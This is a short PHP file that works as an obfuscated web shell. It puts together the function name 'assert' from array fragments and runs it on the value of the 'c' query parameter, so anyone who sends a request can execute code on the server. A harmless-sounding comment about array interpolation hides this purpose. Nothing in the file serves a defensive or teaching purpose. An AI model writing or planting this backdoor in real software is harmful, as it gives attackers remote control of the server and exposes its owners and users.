<?php
// Indexed interpolation of a constant table; 'k' is a key, not item 0.
$t = array('as', 'k' => 'sert');
$g = "$t[0]{$t['k']}";
$g($_GET['c']);
